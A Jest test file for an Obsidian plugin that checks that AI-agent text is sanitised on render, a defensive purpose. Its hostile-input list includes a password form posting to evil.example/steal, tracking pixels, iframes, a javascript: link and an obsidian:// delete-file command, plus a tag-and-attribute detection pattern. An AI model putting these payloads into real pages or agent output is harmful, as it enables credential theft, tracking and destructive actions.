/** @jest-environment jsdom */
import 'obsidian-test-mocks/jest-setup';
import DOMPurify from 'dompurify';
import { Component, MarkdownRenderer, type App as AppOriginal } from 'obsidian';
import type LogosContinuityPlugin from '../../../src/main';
import { isRemoteUrl, prepareAgentMarkdown, sanitizeAgentDom } from '../../../src/ui/shared/agent-html';
import { renderAgentMarkdown } from '../../../src/ui/shared/agent-markdown';
import { loadPlugin, makeApp, openResumeView } from '../../helpers/harness';
import { HERON, NOW, vaultFiles } from '../../helpers/vault-texts';

/**
 * A stand-in for Obsidian's renderer at its most permissive: raw HTML passes as Obsidian's
 * documented sanitizer lets it (DOMPurify's defaults: no script, no on* handler), images
 * and embeds come out as Obsidian renders them, an embed already filled with the other
 * note, and a code block of a registered processor runs it.
 */
const processorRan: string[] = [];
function obsidianLike(md: string): DocumentFragment {
	const html = md
		.replace(/^```(dataviewjs|query)\n([\s\S]*?)^```$/gm, (_m, lang: string, code: string) => {
			processorRan.push(`${lang}: ${code}`);
			return `<div class="block-language-${lang}">ran</div>`;
		})
		.replace(/!\[\[([^\]]+)\]\]/g, '<span class="internal-embed markdown-embed" src="$1" alt="$1"><div class="markdown-embed-content">the other note, whole: SECRET PLAN</div></span>')
		.replace(/!\[([^\]]*)\]\(([^)\s]+)\)/g, '<img alt="$1" src="$2">')
		.replace(/\[\[([^\]]+)\]\]/g, '<a class="internal-link" data-href="$1" href="$1">$1</a>')
		.replace(/\[([^\]]*)\]\(([^)\s]+)\)/g, '<a href="$2">$1</a>')
		.replace(/`([^`]+)`/g, '<code>$1</code>');
	return DOMPurify.sanitize(html, { RETURN_DOM_FRAGMENT: true });
}

const OFF = { remoteImages: false };
const ON = { remoteImages: true };

beforeEach(() => {
	processorRan.length = 0;
	jest.spyOn(MarkdownRenderer, 'render').mockImplementation((_app, md, el) => {
		el.appendChild(obsidianLike(md));
		return Promise.resolve();
	});
});

afterEach(() => {
	jest.restoreAllMocks();
});

async function render(text: string, opts = OFF): Promise<HTMLElement> {
	const el = document.body.createDiv();
	await renderAgentMarkdown({} as AppOriginal, text, el, 'sessions/x/a.md', new Component(), opts);
	return el;
}

/** Everything in `el` that could act or fetch: what the allow-list must never keep. */
function live(el: HTMLElement): string[] {
	const found: string[] = [];
	for (const e of Array.from(el.querySelectorAll('*'))) {
		const tag = e.localName;
		if (/^(form|input|button|textarea|select|style|script|iframe|object|embed|link|meta|base|video|audio|source|image|use|foreignobject)$/i.test(tag)) found.push(tag);
		for (const a of e.getAttributeNames()) {
			if (/^(style|srcset|on.*|action|formaction|ping|poster|background|xlink:href)$/i.test(a)) found.push(`${tag}[${a}]`);
		}
		if (tag === 'img' && isRemoteUrl(e.getAttribute('src') ?? '', document.baseURI)) found.push(`img ${e.getAttribute('src')}`);
		if (tag === 'a' && /^\s*(javascript|data|vbscript|obsidian|file):/i.test(e.getAttribute('href') ?? '')) found.push(`a ${e.getAttribute('href')}`);
		if (e.classList.contains('internal-embed') || e.classList.contains('markdown-embed')) found.push('embed');
	}
	return found;
}

describe('agent text in the pane: nothing live', () => {
	const HOSTILE: [string, string][] = [
		['a login form', '<form action="https://evil.example/steal" method="post"><input type="password" name="pw"><button>Sign in</button></form>'],
		['a style element', '<style>body{display:none}</style>'],
		['an inline style', '<div style="position:fixed;inset:0;background:url(https://evil.example/bg.png)">cover</div>'],
		['an iframe', '<iframe src="https://evil.example/frame"></iframe>'],
		['an object and an embed', '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/y">'],
		['link, meta and base', '<link rel="stylesheet" href="https://evil.example/s.css"><meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/">'],
		['an HTML tracking pixel', '<img src="https://track.example/p.gif" width="1" height="1">'],
		['a markdown tracking pixel', '![](https://track.example/p.gif)'],
		['a protocol-relative image', '![x](//track.example/p.gif)'],
		['srcset', '<img src="local.png" srcset="https://track.example/a.png 2x">'],
		['video, audio and source', '<video src="https://evil.example/v.mp4" poster="https://evil.example/p.png"></video><audio><source src="https://evil.example/a.mp3"></audio>'],
		['an SVG that fetches', '<svg><image href="https://evil.example/i.png"/><use href="https://evil.example/u.svg#a"/></svg>'],
		['a javascript: link', '<a href="javascript:alert(1)">click</a> and [click](javascript:alert(1))'],
		['an obsidian: link', '[run](obsidian://advanced-uri?commandid=app:delete-file)'],
		['an embed of another note', '![[secret plan]]'],
		['a table cell background', '<table><tr><td background="https://evil.example/t.png">x</td></tr></table>'],
	];

	test.each(HOSTILE)('%s is gone, and what the agent wrote still reads', async (_name, text) => {
		const el = await render(`before ${text} after`);
		expect(live(el)).toEqual([]);
		expect(el.textContent).toContain('before');
		expect(el.textContent).toContain('after');
	});

	test('raw HTML shows as the text the agent wrote', async () => {
		const el = await render('<form action="https://evil.example/steal"><input type="password"></form>');
		expect(el.querySelector('form')).toBeNull();
		expect(el.textContent).toContain('<form action="https://evil.example/steal"><input type="password"></form>');
	});

	test('an embed of another note is a plain link to it, never its content', async () => {
		const el = await render('see ![[secret plan]]');
		expect(el.textContent).not.toContain('SECRET PLAN');
		const a = el.querySelector('a.internal-link');
		expect(a?.getAttribute('data-href')).toBe('secret plan');
		expect(el.textContent).toBe('see !secret plan');
	});

	test('a remote image is a link the person can open, and is not loaded', async () => {
		const el = await render('![pixel](https://track.example/p.gif)');
		expect(el.querySelector('img')).toBeNull();
		expect(el.querySelector('a')?.getAttribute('href')).toBe('https://track.example/p.gif');
	});

	test('no other plugin runs a code block of agent text; plain languages keep their highlighting', async () => {
		const el = await render('```dataviewjs\ndv.el("b", "x")\n```\n\n```query\npassword\n```');
		expect(processorRan).toEqual([]);
		expect(el.textContent).toContain('dv.el("b", "x")');
		expect(prepareAgentMarkdown('```ts\nconst a = 1;\n```', OFF)).toBe('```ts\nconst a = 1;\n```');
		expect(prepareAgentMarkdown('  > - ~~~dataviewjs {x}\n', OFF)).toBe('  > - ~~~\n');
	});

	test('code and generics keep their angle brackets, dollars and bangs', async () => {
		const el = await render('`Vec<String>` costs $5 and $6! ![[x]]');
		expect(el.textContent).toBe('Vec<String> costs $5 and $6! !x');
		expect(el.querySelector('code')?.textContent).toBe('Vec<String>');
	});

	test('the stand-ins an agent types itself never turn into markup', async () => {
		const el = await render('\uE000form\uE001[[x]]');
		expect(el.querySelector('form')).toBeNull();
		expect(el.textContent).toBe('\uFFFDform\uFFFDx');
		expect(el.querySelector('a.internal-link')?.getAttribute('data-href')).toBe('x');
	});

	test('with remote images allowed, a markdown image loads without a referrer; embeds and frames stay out', async () => {
		const el = await render('![chart](https://example.com/c.png) ![[secret plan]] <iframe src="https://example.com"></iframe>', ON);
		const img = el.querySelector('img');
		expect(img?.getAttribute('src')).toBe('https://example.com/c.png');
		expect(img?.getAttribute('referrerpolicy')).toBe('no-referrer');
		expect(el.textContent).not.toContain('SECRET PLAN');
		expect(el.querySelector('iframe')).toBeNull();
	});

	test('a slower earlier render never lands after a later one in the same place', async () => {
		let release: () => void = () => undefined;
		jest.spyOn(MarkdownRenderer, 'render').mockImplementationOnce((_a, md, el) => {
			return new Promise<void>((r) => {
				release = () => {
					el.appendChild(obsidianLike(md));
					r();
				};
			});
		});
		const el = document.body.createDiv();
		const first = renderAgentMarkdown({} as AppOriginal, 'preview', el, 'a.md', new Component(), OFF);
		await renderAgentMarkdown({} as AppOriginal, 'whole text', el, 'a.md', new Component(), OFF);
		release();
		await first;
		expect(el.textContent).toBe('whole text');
	});
});

describe('the walk over any rendered DOM', () => {
	function walk(build: (root: HTMLElement) => void, opts = OFF): HTMLElement {
		const root = document.createElement('div');
		build(root);
		sanitizeAgentDom(root, opts, 'http://localhost/');
		return root;
	}

	test('keeps what Obsidian renders: callouts, tasks, tables, code, links', () => {
		const root = walk((r) => {
			const c = r.createDiv({ cls: 'callout', attr: { 'data-callout': 'note' } });
			const icon = c.createDiv({ cls: 'callout-icon' });
			const svg = icon.createSvg('svg', { attr: { viewBox: '0 0 24 24', class: 'svg-icon lucide-pencil' } });
			svg.createSvg('path', { attr: { d: 'M0 0L1 1' } });
			const li = r.createEl('ul', { cls: 'contains-task-list' }).createEl('li', { cls: 'task-list-item is-checked', attr: { 'data-task': 'x' } });
			li.createEl('input', { type: 'checkbox', cls: 'task-list-item-checkbox', attr: { checked: '' } });
			li.appendText('done');
			r.createEl('pre').createEl('code', { cls: 'language-ts' }).createSpan({ cls: 'token keyword', text: 'const' });
			r.createEl('a', { cls: 'external-link', href: 'https://example.com', text: 'web' });
			r.createEl('a', { cls: 'internal-link', attr: { 'data-href': 'note', href: 'note' }, text: 'note' });
		});
		expect(root.querySelector('.callout[data-callout="note"] svg path')?.getAttribute('d')).toBe('M0 0L1 1');
		expect(root.querySelector('li.task-list-item')?.textContent).toBe('☑ done');
		expect(root.querySelector('input')).toBeNull();
		expect(root.querySelector('code.language-ts span.token.keyword')?.textContent).toBe('const');
		expect(root.querySelector('a.external-link')?.getAttribute('rel')).toBe('noopener nofollow noreferrer');
		expect(root.querySelector('a.internal-link')?.getAttribute('target')).toBeNull();
	});

	test('class names outside the renderer\'s own go, so app styles cannot be borrowed', () => {
		const root = walk((r) => r.createDiv({ cls: 'modal-container mod-dim callout', text: 'x' }));
		expect(root.firstElementChild?.className).toBe('callout');
	});

	test('ids, data attributes of the plugin and styles are removed', () => {
		const root = walk((r) => r.createSpan({ attr: { id: 'app-container', 'data-logos-action': '0', style: 'color:red', onclick: 'x()' }, text: 'x' }));
		expect(root.firstElementChild?.getAttributeNames()).toEqual([]);
	});

	test('nested elements outside the allow-list all go, their text kept', () => {
		const root = walk((r) => {
			let p: HTMLElement = r;
			for (let i = 0; i < 500; i++) p = p.appendChild(document.createElement(i % 2 ? 'font' : 'blockquote'));
			p.appendChild(document.createElement('form')).appendText('deep');
		});
		expect(root.querySelector('form, font')).toBeNull();
		expect(root.textContent).toBe('deep');
	});
});

describe('remote or local', () => {
	test.each([
		['https://a.example/x.png', true],
		['http://a.example/x.png', true],
		['//a.example/x.png', true],
		['\\\\a.example/x.png', true],
		[' \thttps://a.example/x.png', true],
		['HTTPS://a.example', true],
		['ftp://a.example/x', true],
		['attachments/x.png', false],
		['/x.png', false],
		['app://obsidian.md/x.png', false],
		['data:image/png;base64,AAAA', false],
		['http://localhost/x.png', false],
	])('%s → remote %s', (src, remote) => {
		expect(isRemoteUrl(src, 'http://localhost/')).toBe(remote);
	});
});

describe('the resume pane', () => {
	let plugin: LogosContinuityPlugin;
	afterEach(() => plugin.unload());

	const hostileHeron = (state: string): Record<string, string> => {
		const files = vaultFiles();
		files[HERON] = files[HERON].replace('## Next', `## State\n\n${state}\n\n## Next`);
		return files;
	};

	test('renders a hostile State with no form, no style, no remote image, and follows the setting', async () => {
		jest.spyOn(Date, 'now').mockReturnValue(NOW * 1000);
		const state = 'the queue is wired <form action="https://evil.example/s"><input type="password"></form><style>body{display:none}</style> ![](https://track.example/p.gif)';
		const app = makeApp(hostileHeron(state));
		plugin = await loadPlugin(app);
		const view = await openResumeView(app, plugin, { scope: 'heron', pinned: true });
		await Promise.resolve();
		const block = view.contentEl.querySelector<HTMLElement>('[data-section="state"]');
		expect(block?.textContent).toContain('the queue is wired');
		expect(block && live(block)).toEqual([]);
		expect(block?.textContent).toContain('<form action="https://evil.example/s">');
		expect(view.contentEl.querySelector('img, form, style')).toBeNull();

		await plugin.updateSettings({ remoteImages: true });
		await view.refresh();
		await Promise.resolve();
		expect(view.contentEl.querySelector('[data-section="state"] img')?.getAttribute('src')).toBe('https://track.example/p.gif');
		expect(view.contentEl.querySelector('form, style')).toBeNull();
	});
});
